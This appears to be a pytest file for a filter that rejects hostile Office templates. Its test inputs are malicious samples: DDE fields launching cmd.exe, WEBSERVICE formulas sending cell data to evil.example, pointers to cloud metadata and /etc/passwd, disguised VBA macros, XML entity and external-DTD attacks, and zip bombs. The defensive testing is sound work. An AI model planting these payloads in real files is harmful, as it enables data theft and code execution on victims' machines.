"""What a part of an Office file may not hold, however it is written."""

import struct
import zipfile
from io import BytesIO

import pytest

from rendering import Limits, TemplateError, gate

PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types"/>'.encode()


def package(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": TYPES, **parts}.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def refused(parts: dict[str, bytes], message: str) -> None:
    with pytest.raises(TemplateError, match=message) as caught:
        gate(package(parts))
    assert caught.value.remedy


def rels(line: str, prefix: str = "") -> dict[str, bytes]:
    space = f'xmlns:{prefix[:-1]}="' if prefix else 'xmlns="'
    text = f'<{prefix}Relationships {space}{PACKAGE}/relationships">{line}</{prefix}Relationships>'
    return {"word/_rels/document.xml.rels": text.encode()}


def pointer(kind: str, target: str, mode: str = 'TargetMode="External"') -> dict[str, bytes]:
    return rels(f'<Relationship Id="r1" Type="{DOC}/{kind}" Target="{target}" {mode}/>')


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://169.254.169.254/x.png"),
        ("image", "file:///etc/passwd"),
        ("oleObject", "file://server/share/x.xlsx"),
        ("externalLinkPath", "book1.xlsx"),
        ("subDocument", "other.docx"),
        ("frame", "http://evil.example/f.htm"),
        ("video", "https://evil.example/v.mp4"),
        ("externalLink", "\\\\server\\share\\x"),
        ("image", "http://evil.example/hyperlink"),
        ("customXml", "ftp://evil.example/"),
    ],
)
def test_pointers_outside_are_refused(kind: str, target: str) -> None:
    refused(pointer(kind, target), "points outside itself")


@pytest.mark.parametrize(
    "mode", ['TargetMode="&#69;xternal"', "TargetMode = 'External'", 'TargetMode="external"', ""]
)
def test_a_pointer_outside_is_seen_however_it_is_written(mode: str) -> None:
    refused(pointer("image", "http://evil.example/x.png", mode), "points outside itself")
    refused(pointer("image", "&#104;ttp://evil.example/x.png", mode), "points outside itself")


def test_a_pointer_in_another_namespace_prefix_is_seen() -> None:
    line = f'<p:Relationship Id="r" Type="{DOC}/image" Target="http://evil.example" TargetMode="External"/>'
    refused(rels(line, "p:"), "points outside itself")


@pytest.mark.parametrize(
    ("kind", "target"),
    [("hyperlink", "https://example.org/"), ("hyperlink", "mailto:a@example.org"),
     ("attachedTemplate", "file:///C:/Normal.dotm")],
)  # fmt: skip
def test_links_people_click_and_the_template_of_a_document_pass(kind: str, target: str) -> None:
    gate(package(pointer(kind, target)))


def test_a_document_inside_that_word_takes_over_is_refused() -> None:
    refused(pointer("aFChunk", "afchunk.html", ""), "another document inside")


@pytest.mark.parametrize(
    "written", ["application/vnd.ms-office.vbaProject", "application/vnd.ms-office.&#118;baProject"]
)
def test_macros_under_another_name_are_refused(written: str) -> None:
    override = f'<Override PartName="/xl/harmless.bin" ContentType="{written}"/></Types>'
    types = TYPES.replace(b"/>", b">") + override.encode()
    refused({"[Content_Types].xml": types, "xl/harmless.bin": b"\0"}, "macros")
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    line = f'<Relationship Id="r1" Type="{kind}" Target="harmless.bin"/>'
    refused(rels(line), "macros")


def run(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instruction(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def document(body: str) -> dict[str, bytes]:
    return {"word/document.xml": f'<w:document xmlns:w="{WORD}"><w:p>{body}</w:p></w:document>'.encode()}


@pytest.mark.parametrize(
    "body",
    [
        '<w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"\'/>',
        run("begin") + instruction(' DDE cmd "/c calc"') + run("end"),
        run("begin") + instruction("D") + instruction("DE") + instruction(" cmd") + run("separate"),
        run("begin") + instruction(' IF 1 = 1 "') + run("begin") + instruction("ddeauto x") + run("end"),
        run("begin") + instruction(' INCLUDEPICTURE "http://evil.example/x.png"') + run("end"),
        run("begin") + instruction(' INCLUDETEXT "C:\\\\secret.docx"') + run("end"),
        run("begin") + instruction(' LINK Excel.Sheet.12 "\\\\\\\\server\\\\x.xlsx"') + run("end"),
        run("begin") + instruction(" MACROBUTTON x y") + run("end"),
    ],
)  # fmt: skip
def test_fields_that_fetch_or_start_something_are_refused(body: str) -> None:
    refused(document(body), "a field [A-Z]+, which fetches something or starts a program")


def test_a_field_whose_name_another_field_makes_is_refused() -> None:
    inner = run("begin") + instruction(" QUOTE 68 68 69 ") + run("separate") + run("end")
    refused(document(run("begin") + inner + instruction(" cmd") + run("end")), "begins with another field")


def test_ordinary_fields_pass() -> None:
    page = run("begin") + instruction(" PAGE ") + run("separate") + run("end")
    inner = run("begin") + instruction(" IF ") + page + instruction(' = 1 "a" "DDE"') + run("end")
    gate(package(document(page + inner + "<w:fldSimple w:instr='HYPERLINK &quot;https://x.example&quot;'/>")))


@pytest.mark.parametrize(
    "formula",
    ['_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)', "WebService (A1)", "cmd|'/c calc'!A0",
     "cmd|&apos;/c calc&apos;!A0", 'DDE("soffice";"/etc/passwd";"a")', 'RTD("x",,"y")',
     'CALL("kernel32","WinExec")'],
)  # fmt: skip
def test_formulas_that_fetch_or_start_something_are_refused(formula: str) -> None:
    sheet = f"<worksheet><c><f t='shared'>1+{formula}</f></c></worksheet>"
    refused({"xl/worksheets/sheet1.xml": sheet.encode()}, "fetches from the network or starts")
    refused({"xl/workbook.xml": f"<a><definedName name='x'>{formula}</definedName></a>".encode()}, "fetches")


def test_a_dde_link_of_a_workbook_is_refused() -> None:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    refused({"xl/externalLinks/externalLink1.xml": link}, "DDE link")


def test_ordinary_formulas_pass() -> None:
    sheet = b"<worksheet><f>SUM(A1:A9)&amp;\"a|b\"</f><v>WEBSERVICE(</v><f>'C|D'!A1</f></worksheet>"
    gate(package({"xl/worksheets/sheet1.xml": sheet}))


@pytest.mark.parametrize(
    ("name", "encoding"), [("UTF-7", "utf-7"), ("IBM037", "cp037"), ("UTF-32", "utf-32"), ("GBK", "gbk")]
)
def test_no_word_hides_in_an_encoding(name: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{name}"?><!DOCTYPE a [<!ENTITY x "ha">]><a>&x;</a>'
    refused({"xl/workbook.xml": text.encode(encoding)}, "encoding|DOCTYPE")


def test_quadratic_blow_up_is_refused() -> None:
    entity = f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]>'
    refused({"xl/workbook.xml": f"{entity}<a>{'&x;' * 50_000}</a>".encode()}, "DOCTYPE")


def test_an_external_dtd_is_refused() -> None:
    refused({"word/document.xml": b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'}, "DOCTYPE")


def test_a_part_with_two_names_is_refused() -> None:
    """The directory says one, the part itself another: readers disagree about what they read."""
    good = package({"xl/aaaa.xml": b"<a/>"})
    at = good.index(b"xl/aaaa.xml")
    with pytest.raises(TemplateError, match="two names"):
        gate(good[:at] + b"xl/bbbb.xml" + good[at + 11 :])


def test_a_million_entries_are_refused_before_they_are_read() -> None:
    """Each line of the directory is an object; the list is counted first."""
    line = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = line * 400_000
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(directory), 0, 0)
    with pytest.raises(TemplateError, match="more than 5000 parts"):
        gate(directory + end, Limits())


def test_a_file_of_files_of_files_is_refused() -> None:
    bomb = b"<a>" + b" " * 1_000_000 + b"</a>"
    for _ in range(3):
        bomb = package({"inner.xlsx": bomb})
    with pytest.raises(TemplateError, match="files stand in files in files"):
        gate(bomb)


def typed(kind: str, **parts: bytes) -> dict[str, bytes]:
    entry = f'<Default Extension="bin" ContentType="{kind}"/>'
    types = f'<Types xmlns="{PACKAGE}/content-types">{entry}</Types>'
    return {"[Content_Types].xml": types.encode(), **{f"{name}.bin": body for name, body in parts.items()}}


@pytest.mark.parametrize(
    ("kind", "message", "remedy"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "Word document with macros", "docx"),
        (
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            "Word document with macros",
            "docx",
        ),
        (
            "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
            "PowerPoint file with macros",
            "pptx",
        ),
        ("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "has macros", "xlsm"),
        ("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "has macros", "xlsm"),
    ],
)
def test_macros_are_refused_with_the_way_out_of_their_program(kind: str, message: str, remedy: str) -> None:
    with pytest.raises(TemplateError, match=message) as told:
        gate(package(typed(kind, a=b"x")))
    assert remedy in told.value.remedy


def test_active_x_is_a_part_of_that_type_and_not_a_type_without_a_part() -> None:
    kind = "application/vnd.ms-office.activeX"
    gate(package(typed(kind)))
    refused(typed(kind, control=b"x"), "ActiveX controls")
